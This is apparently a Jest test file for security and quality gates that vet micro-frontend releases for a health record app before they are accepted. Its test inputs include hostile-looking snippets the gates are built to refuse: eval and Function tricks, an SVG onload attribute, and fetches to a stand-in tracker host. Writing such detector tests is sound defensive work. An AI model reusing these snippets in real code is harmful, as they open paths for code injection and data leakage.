import { satisfies as readByHosts } from '@phr/loader/semver-range';
import { satisfies as readByNpm } from 'semver';
import type { Claim, GateResult, GateContext } from '../ports.ts';
import { type Changes, generatedRelease, ROUTES, WORLD } from '../../../test/generated-release.ts';
import { claimsOf } from '../claims.ts';
import { hostRange } from '../host-range.ts';
import { runGate } from './gate.ts';
import { filesGate } from './files-gate.ts';
import { filesGateInThread } from './files-thread.ts';
import { createGates } from './gates.ts';

const check = (changes: Changes = {}, world: Partial<GateContext> = {}): Promise<readonly GateResult[]> =>
  createGates(ROUTES)(generatedRelease(changes), { ...WORLD, ...world });

const ALL = ['MANIFEST', 'CONTRACT', 'CLAIMS', 'SIZE', 'CALLS', 'FILES', 'CHECKS'];

test('a good release passes every gate, and every gate looks at it', async () => {
  expect(await check()).toEqual(ALL.map((id) => ({ id, ok: true, findings: [] })));
});

const route = (screen: string, path: string) => ({ screen, path, layout: 'app', needsMainPatient: true });
const slot = (change: object) => ({ slots: [{ slot: 'a', place: 'dashboard.main', order: 1, ...change }] });
const noise = (bytes: number): string => {
  let state = 1;
  const next = () => (state = (state * 48_271) % 2_147_483_647).toString(36);
  let text = '';
  while (text.length < bytes) text += next();
  return `self.noise="${text}";`;
};
const view = (text: string) => ({ files: { 'view.1a2b3c4d.js': text } });

type Broken = readonly [what: string, gate: string, where: string, changes: Changes, world?: Partial<GateContext>];
const NOTES = { 'vi-VN': 'Ghi chú', 'en-US': 'Notes' };
const way = (more: object) => ({ screen: 'notes', label: NOTES, icon: 'M4 4h16v16H4z', order: 1, ...more });

const BROKEN: readonly Broken[] = [
  [
    'a layout that no host has',
    'MANIFEST',
    '/routes/0/layout',
    { manifest: { routes: [{ ...route('notes', '/notes'), layout: 'wide' }] } },
  ],
  ['a place that no host has', 'MANIFEST', '/slots/0/place', { manifest: slot({ place: 'dashboard.left' }) }],
  ['a door that no host has', 'MANIFEST', '/door', { manifest: { door: 'cellar' } }],
  [
    'a text in one language only',
    'MANIFEST',
    '/slots/0/text/en-US',
    { manifest: slot({ place: 'search', source: true, text: { 'vi-VN': 'Ghi chú' } }) },
  ],
  [
    'an icon that is no path',
    'MANIFEST',
    '/menu/0/icon',
    { manifest: { menu: [way({ icon: '<svg onload="x">', group: 'record' })] } },
  ],
  ['a range that is none', 'CONTRACT', '/contract', { manifest: { contract: 'one' } }],
  ['a range beyond a host in use', 'CONTRACT', '/contract', { manifest: { contract: '^1.3.0' } }],
  [
    'a kit that nobody looks after',
    'CONTRACT',
    '@phr/module-kit',
    { descriptor: { sdk: { '@phr/contract': '1.3.0', '@phr/module-kit': '0.9.0', '@phr/ui': '1.0.0' } } },
  ],
  [
    'a React of its own',
    'CONTRACT',
    'view.1a2b3c4d.js',
    view('t.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE=e;'),
  ],
  [
    'a path that takes everything',
    'CLAIMS',
    '/routes/0/path',
    { manifest: { routes: [route('notes', '/:anything')] } },
  ],
  ['the root', 'CLAIMS', '/routes/0/path', { manifest: { routes: [route('notes', '/')] } }],
  ['an address of the server', 'CLAIMS', '/routes/0/path', { manifest: { routes: [route('notes', '/api/notes')] } }],
  [
    "another's first segment",
    'CLAIMS',
    '/routes/0/path',
    { manifest: { routes: [route('notes', '/health-indexes/notes')] } },
  ],
  ["another's screen", 'CLAIMS', '/routes/0/screen', { manifest: { routes: [route('dashboard', '/notes')] } }],
  [
    'an errand that another serves',
    'CLAIMS',
    '/routes/0/screen',
    { manifest: { routes: [{ ...route('notes', '/notes'), serves: ['doses'] }] } },
  ],
  [
    'a type that another shows',
    'CLAIMS',
    '/routes/0/screen',
    { manifest: { routes: [{ ...route('notes', '/notes'), shows: ['Consent'] }] } },
  ],
  ["another's tile", 'CLAIMS', '/tiles', { manifest: { tiles: [way({ name: 'readings' })] } }],
  [
    'two screens for one address',
    'CLAIMS',
    '/routes/1/path',
    { manifest: { routes: [route('a', '/notes/:id'), route('b', '/notes/:name')] } },
  ],
  [
    'one address with and without its last part',
    'CLAIMS',
    '/routes/1/path',
    { manifest: { routes: [route('a', '/notes'), route('b', '/notes/:id?')] } },
  ],
  [
    'an entry over its limit',
    'SIZE',
    'remoteEntry.js',
    { files: { 'remoteEntry.js': `${noise(30_000)}let t=@@table@@` } },
  ],
  ['a chunk over its limit', 'SIZE', 'view.1a2b3c4d.js', view(noise(220_000))],
  [
    'a call that no server answers',
    'CALLS',
    '/calls/0',
    { manifest: { ...slot({}), calls: ['GET phr /api/phr/secrets'] } },
    { approved: ['GET phr /api/phr/secrets'] },
  ],
  [
    'a type that nobody keeps',
    'CALLS',
    '/calls/0',
    { manifest: { ...slot({}), calls: ['POST fhir /Basic'] } },
    { approved: ['POST fhir /Basic'] },
  ],
  [
    'a call of no form',
    'CALLS',
    '/calls/0',
    { manifest: { ...slot({}), calls: ['GET mail /inbox'] } },
    { approved: ['GET mail /inbox'] },
  ],
  [
    'a call that nobody approved',
    'CALLS',
    '/calls/0',
    { manifest: { ...slot({}), calls: ['POST phr /api/phr/import'] } },
  ],
  ["a place on partners' pages that nobody approved", 'CALLS', '/partner', { manifest: { partner: { title: NOTES } } }],
  [
    'a call ahead that is not declared',
    'CALLS',
    '/slots/0/ahead/0',
    { manifest: slot({ ahead: ['GET fhir /Patient/:id/Goal?_count=1'] }) },
  ],
  [
    'bytes that changed after the build',
    'FILES',
    'pdf/cmaps/x.bcmap',
    { afterwards: { 'pdf/cmaps/x.bcmap': 'other' } },
  ],
  ['a chunk that the entry does not know', 'FILES', 'late.js', { afterwards: { 'late.js': 'self.late=1' } }],
  ['a file that is gone', 'FILES', 'integrity.json', { afterwards: { 'pdf/cmaps/x.bcmap': undefined } }],
  ['no list of hashes', 'FILES', 'integrity.json', { afterwards: { 'integrity.json': undefined } }],
  ['a source map', 'FILES', 'view.js.map', { files: { 'view.js.map': '{}' } }],
  [
    'the name of a source map',
    'FILES',
    'view.1a2b3c4d.js',
    view('self.a=1;\n//# sourceMappingURL=data:application/json,x'),
  ],
  ['eval', 'FILES', 'view.1a2b3c4d.js:2', view('self.a=1;\neval("2");')],
  ['eval by another way', 'FILES', 'view.1a2b3c4d.js:1', view('(0,eval)(self.text);')],
  ['eval by its name', 'FILES', 'view.1a2b3c4d.js:1', view('self["ev"];self["eval"](1);')],
  ['new Function', 'FILES', 'view.1a2b3c4d.js:1', view('new Function("return this")();')],
  ['Function without its name', 'FILES', 'view.1a2b3c4d.js:1', view('[].constructor.constructor("return 1")();')],
  ['a timer that runs a text', 'FILES', 'view.1a2b3c4d.js:1', view('setTimeout("go()",1);')],
  ['getPublicPath', 'FILES', 'view.1a2b3c4d.js:1', view('self.o={getPublicPath:()=>"/x/"};')],
  ["another's address", 'FILES', 'view.1a2b3c4d.js:1', view('fetch(`https://tracker.evil-numbers.io/${1}`);')],
  ["another's address without a scheme", 'FILES', 'view.1a2b3c4d.js:1', view('self.a="//cdn.somebody.net/a.js";')],
  [
    "another's address in a picture",
    'FILES',
    'a.svg:1',
    { files: { 'a.svg': '<svg><image href="https://cdn.somebody.net/a"/></svg>' } },
  ],
  ['a script that is none', 'FILES', 'view.1a2b3c4d.js:1', view('let let = 1;;;(')],
  [
    'errors of types',
    'CHECKS',
    '/checks/typeErrors',
    { descriptor: { checks: { typeErrors: 1, lintErrors: 0, unitTests: 1 } } },
  ],
  [
    'findings of lint',
    'CHECKS',
    '/checks/lintErrors',
    { descriptor: { checks: { typeErrors: 0, lintErrors: 2, unitTests: 1 } } },
  ],
  [
    'no unit test',
    'CHECKS',
    '/checks/unitTests',
    { descriptor: { checks: { typeErrors: 0, lintErrors: 0, unitTests: 0 } } },
  ],
  [
    'a version of ui that is none',
    'CHECKS',
    '@phr/ui',
    { descriptor: { sdk: { '@phr/contract': '1.3.0', '@phr/module-kit': '1.0.0', '@phr/ui': 'new' } } },
  ],
  [
    'a manifest beside the one that was signed',
    'CHECKS',
    'module.json',
    { files: { 'module.json': JSON.stringify({ ...generatedRelease().manifest, calls: [] }) } },
  ],
  ['sizes that are not those of the files', 'FILES', 'view.1a2b3c4d.js', { sizes: { 'view.1a2b3c4d.js': 1 } }],
];

const CASES = BROKEN.map(([what, gate, where, changes, world = {}]) => ({ what, gate, where, changes, world }));

test.each(CASES)('refused for this one thing: $what', async ({ gate, where, changes, world }) => {
  const refused = (await check(changes, world)).filter(({ ok }) => !ok);
  expect(refused.map(({ id }) => id)).toEqual([gate]);
  const findings = refused[0]?.findings ?? [];
  expect(findings.map((finding) => finding.where)).toContainEqual(expect.stringContaining(where));
  for (const { message, fix } of findings) expect([message.length > 0, fix.length > 10]).toEqual([true, true]);
});

test('all faults of a release are told at once, each of its gate', async () => {
  const refused = await check({
    manifest: { contract: '^9.0.0', routes: [route('notes', '/:id')], calls: ['GET phr /api/phr/secrets'] },
    files: { 'view.1a2b3c4d.js': noise(220_000) },
    descriptor: { checks: { typeErrors: 3, lintErrors: 0, unitTests: 1 } },
  });
  expect(refused.filter(({ ok }) => !ok).map(({ id }) => id)).toEqual([
    'CONTRACT',
    'CLAIMS',
    'SIZE',
    'CALLS',
    'CHECKS',
  ]);
});

test('what operators set or approved, and what everybody has already, is let pass', async () => {
  const passes = async (changes: Changes, world: Partial<GateContext>) =>
    (await check(changes, world)).filter(({ ok }) => !ok).map(({ id }) => id);
  expect(await passes(view(noise(220_000)), { budgets: { chunk: 300_000 } })).toEqual([]);
  expect(
    await passes(view('fetch("https://maps.city.vn/a")'), { approved: [...WORLD.approved, 'address maps.city.vn'] }),
  ).toEqual([]);
  const worker = { files: { 'pdf/worker.mjs': 'export const g = new Function("return this")();' } };
  expect(await passes(worker, { approved: [...WORLD.approved, 'eval pdf/worker.mjs'] })).toEqual([]);
  const { manifest } = generatedRelease();
  expect(await passes({}, { approved: [], current: { version: '0.9.0', manifest } })).toEqual([]);
  expect(await passes({}, { approved: [] })).toEqual(['CALLS']);
});

test('names are claimed by who is accepted first, and its next release keeps them', async () => {
  const mine = claimsOf(generatedRelease().manifest);
  expect(mine).toEqual<readonly Claim[]>([
    { kind: 'segment', value: 'notes', module: 'mfe-notes' },
    { kind: 'screen', value: 'notes', module: 'mfe-notes' },
    { kind: 'screen', value: 'note-create', module: 'mfe-notes' },
    { kind: 'screen', value: 'note-details', module: 'mfe-notes' },
  ]);
  expect((await check({}, { claims: mine })).every(({ ok }) => ok)).toBe(true);
  const [, , collision] = await check({ manifest: { name: 'mfe-other' } }, { claims: mine });
  expect(collision?.findings).toHaveLength(4);
  expect(collision?.findings[0]?.message).toBe('COLLISION: the segment "notes" belongs to mfe-notes');
});

test.each([
  ['^1.2.0', '^1.2.0'],
  ['>=1.0.0 <2', '>=1.0.0 <2.0.0'],
  ['~1.2.3', '>=1.2.3 <1.3.0'],
  ['1.x || 3', '>=1.0.0 <2.0.0 || >=3.0.0 <4.0.0'],
  ['1.2.0 - 1.4.1', '>=1.2.0 <=1.4.1'],
  ['*', '>=0.0.0'],
  ['latest', undefined],
  ['>=1.2.0-rc.1', undefined],
])('hosts compare numbers: %s is kept as %s', (range, kept) => {
  expect(hostRange(range)).toBe(kept);
  // the page's own reading agrees with that of npm
  if (kept !== undefined)
    for (const version of ['0.9.0', '1.0.0', '1.2.0', '1.2.9', '1.3.0', '1.4.1', '2.0.0', '3.9.9', '4.0.0'])
      expect([version, readByHosts(version, kept)]).toEqual([version, readByNpm(version, range)]);
});

test('a gate that throws refuses, and one that finds a book tells a page', async () => {
  const result = await runGate(
    {
      id: 'X',
      findings() {
        throw new Error('no such file');
      },
    },
    generatedRelease(),
    WORLD,
  );
  expect(result).toMatchObject({ ok: false, findings: [{ message: 'X could not look at it: no such file' }] });
  const many = Array.from({ length: 80 }, (_, at) => ({ where: `${at}`, message: 'm', fix: 'f' }));
  const told = await runGate({ id: 'Y', findings: () => many }, generatedRelease(), WORLD);
  expect([told.ok, told.findings.length, told.findings.at(-1)?.message]).toEqual([false, 51, '30 more of this kind']);
});

test('a thread says of files what the gate says, leaves others their turn, and ends what takes too long', async () => {
  const bad = view('t.x=(0,eval)("1");');
  const run = (changes: Changes, limitMs?: number) =>
    runGate(filesGateInThread(limitMs), generatedRelease(changes), WORLD);
  const [here, there] = [await runGate(filesGate, generatedRelease(bad), WORLD), await run(bad)];
  expect([there.ok, there]).toEqual([false, here]);
  // four bytes that are four nodes of a syntax tree: a script of this length blocked an earlier version for seconds
  const hostile = view('a=1;'.repeat(500_000));
  let turns = 0;
  const clock = setInterval(() => {
    turns += 1;
  }, 10);
  const late = await run(hostile, 500);
  clearInterval(clock);
  expect(late.findings).toEqual([
    expect.objectContaining({ message: expect.stringContaining('not done after 0.5 s') }),
  ]);
  expect(turns).toBeGreaterThan(5);
});
